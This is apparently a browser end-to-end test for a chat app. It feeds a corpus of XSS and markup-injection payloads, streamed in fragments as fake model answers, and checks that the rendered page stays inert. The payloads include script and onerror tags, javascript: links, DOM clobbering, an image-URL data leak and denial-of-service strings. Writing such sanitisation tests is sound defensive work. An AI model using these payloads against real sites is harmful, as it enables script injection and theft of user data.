// What a model writes can do nothing in the page. The answers come from here, not from a model: the
// page cannot tell.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { World, model, waitFor } from './world.mjs';

const FIELD = 'textarea[aria-label="Your question"]';
const world = new World();
let node;
before(async () => {
  await world.open();
  node = await world.node('laptop', '--new', '--model', model);
});
after(() => world.close());

const P = 'window.pwned=1';
const CORPUS = [
  `<script>${P}</script>`,
  `<img src=x onerror="${P}">`,
  `<svg onload="${P}"><script>${P}</script></svg>`,
  `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<math><mi//xlink:href="data:x,<script>${P}</script>">`,
  `<a href="javascript:${P}">click</a>`,
  `[click](javascript:${P})`,
  `[click](JaVaScRiPt:${P})`,
  `[click](java\tscript:${P})`,
  `[click](&#106;avascript:${P})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:${P})`,
  `[click](https://example.com "x" onclick=${P})`,
  `[click](<https://example.com/" onclick="${P}>)`,
  `![x](https://example.com/leak.png?what=was+said)`,
  `![x](x"onerror="${P})`,
  `![x](javascript:${P})`,
  `<https://example.com/"onmouseover="${P}>`,
  `<javascript:${P}>`,
  `<form action="/api/token" method="post"><input name="x" autofocus onfocus="${P}"><button>Go</button></form>`,
  `<button formaction="javascript:${P}">x</button>`,
  `<details open ontoggle="${P}"><summary>x</summary></details>`,
  `<style>@import url(https://example.com/x.css); body { display: none }</style>`,
  `<link rel=stylesheet href=https://example.com/x.css>`,
  `<base href="https://example.com/">`,
  `<meta http-equiv="refresh" content="0;url=https://example.com/">`,
  `<div style="position:fixed;inset:0" id="app" class="code" onclick="${P}">over all</div>`,
  `<input autofocus onfocus=${P}>`,
  `<video><source onerror="${P}"></video>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<template><script>${P}</script></template>`,
  `<b id=location name=cookie>clobber</b>`,
  '```html"><script>' + P + '</script>\n<img src=x onerror=' + P + '>\n```',
  '```\n</code></pre><script>' + P + '</script>\n```',
  '`<img src=x onerror=' + P + '>`',
  `| a |\n|---|\n| <img src=x onerror=${P}> |`,
  `# <img src=x onerror=${P}>`,
  `- <iframe src="javascript:${P}">`,
  `<think><img src=x onerror=${P}></think><script>${P}</script>`,
  `</think><script>${P}</script>`,
  `[x]: javascript:${P}\n\n[x]`,
  `<img src="x\n\n" onerror=${P}>`,
  `<!-- --!><img src=x onerror=${P}> -->`,
  `<![CDATA[<img src=x onerror=${P}>]]>`,
  `\u202e<script>${P}</script>\u0000<img src=x onerror=${P}>`,
  `{{constructor.constructor('${P}')()}}`,
  `\${${P}}`,
  '['.repeat(20000),
  '*a '.repeat(20000),
  '> '.repeat(500) + 'deep',
  '- '.repeat(500) + 'deep',
  '```\n'.repeat(2001),
];

/* A stream of the text in pieces of seven letters, so that tags arrive in halves. */
function streamOf(text) {
  const pieces = text.length > 5000 ? [text] : text.match(/[\s\S]{1,7}/g);
  const chunks = pieces.map(
    (content, index) =>
      `id: ${index + 1}-00000000\ndata: ${JSON.stringify({ id: 'chatcmpl-x', choices: [{ index: 0, delta: { content }, finish_reason: null }] })}\n\n`,
  );
  return `${chunks.join('')}data: [DONE]\n\n`;
}

const FORBIDDEN = 'script, img, .md svg, iframe, object, embed, form, input, style, link, meta, base, video, template, math, [style], [id], [name], [formaction]';

test('a corpus of attacks is inert: no script, no request, no element but text', { timeout: 240_000 }, async () => {
  const page = await world.page(node, { view: 'chat' });
  let text = '';
  await page.route('**/v1/chat/completions', (route) =>
    route.fulfill({ status: 200, contentType: 'text/event-stream', body: streamOf(text) }),
  );
  /* The node's account of the answer is not to be trusted by itself either. */
  const nasty = '<img src=x onerror="window.pwned=1">';
  await page.route('**/api/requests/**', (route) =>
    route.fulfill({
      json: { id: nasty, model: nasty, started_ms: 'soon', outcome: 'done', decode_tokens_per_s: 1e308, stages: [{ node: nasty, device: nasty, first_layer: -1, n_layers: 'x' }, null, 7], pauses: [{ at_ms: {}, ms: -1, why: nasty }], joules: 'hot' },
    }),
  );
  page.on('dialog', (dialog) => page.problems.push(`dialog ${dialog.message()}`));
  await page.waitForSelector(FIELD);
  await waitFor('a model', async () => (await page.getByLabel('Model', { exact: true }).count()) > 0);
  for (const [index, attack] of CORPUS.entries()) {
    text = attack;
    const name = `attack ${index}: ${attack.slice(0, 60)}`;
    await page.fill(FIELD, `attack ${index}`);
    await page.keyboard.press('Enter');
    await page.waitForFunction((n) => document.querySelectorAll('article.assistant[data-outcome=done]').length === n, 1);
    const found = await page.evaluate((forbidden) => {
      const areas = [...document.querySelectorAll('article.assistant .md, details.made')];
      const all = areas.flatMap((area) => [...area.querySelectorAll('*')]);
      return {
        pwned: window.pwned ?? null,
        elements: areas.flatMap((area) => [...area.querySelectorAll(forbidden)].map((each) => each.outerHTML.slice(0, 200))),
        handlers: all.flatMap((each) => each.getAttributeNames().filter((attribute) => attribute.startsWith('on'))),
        links: areas.flatMap((area) => [...area.querySelectorAll('a')].map((each) => [each.protocol, each.rel])),
        app: document.querySelectorAll('#app').length,
      };
    }, FORBIDDEN);
    assert.equal(found.pwned, null, name);
    assert.deepEqual(found.elements, [], name);
    assert.deepEqual(found.handlers, [], name);
    assert.equal(found.app, 1, name);
    for (const [protocol, rel] of found.links) {
      assert.match(protocol, /^(https?|mailto):$/, name);
      assert.equal(rel, 'noopener noreferrer nofollow', name);
    }
    for (const link of await page.locator('article.assistant .md a').all()) await link.hover({ force: true, timeout: 2000 }).catch(() => undefined);
    await page.keyboard.press('Alt+n');
  }
  assert.equal(await page.evaluate(() => window.pwned ?? null), null);
  assert.deepEqual(page.problems, []);
});
